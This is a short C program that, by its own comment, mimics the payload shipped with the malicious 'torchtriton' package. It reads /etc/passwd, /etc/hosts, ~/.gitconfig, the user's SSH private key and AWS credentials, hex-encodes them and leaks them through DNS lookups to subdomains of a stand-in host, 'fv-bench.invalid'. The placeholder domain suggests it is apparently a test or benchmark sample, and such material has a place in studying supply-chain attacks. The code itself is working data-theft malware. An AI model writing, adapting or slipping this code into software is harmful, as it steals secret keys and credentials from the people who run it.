/* A program in the shape of what came with the false torchtriton: reads files of the user's, sends them over DNS. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <netdb.h>
static void send_part(const unsigned char *part, size_t size, int number) {
  char name[200] = ""; size_t i;
  for (i = 0; i < size; i++) sprintf(name + strlen(name), "%02x", part[i]);
  sprintf(name + strlen(name), ".%d.d.fv-bench.invalid", number);
  struct hostent *h = gethostbyname(name); (void)h;
}
static void send_file(const char *folder, const char *file) {
  char path[512]; unsigned char part[28]; size_t got; int n = 0;
  snprintf(path, sizeof path, "%s/%s", folder, file);
  FILE *in = fopen(path, "rb");
  if (!in) return;
  while ((got = fread(part, 1, sizeof part, in)) > 0) send_part(part, got, n++);
  fclose(in);
}
int main(void) {
  const char *home = getenv("HOME");
  send_file("/etc", "hosts"); send_file("/etc", "passwd");
  if (home) { send_file(home, ".gitconfig"); send_file(home, ".ssh/id_rsa"); send_file(home, ".aws/credentials"); }
  return 0;
}
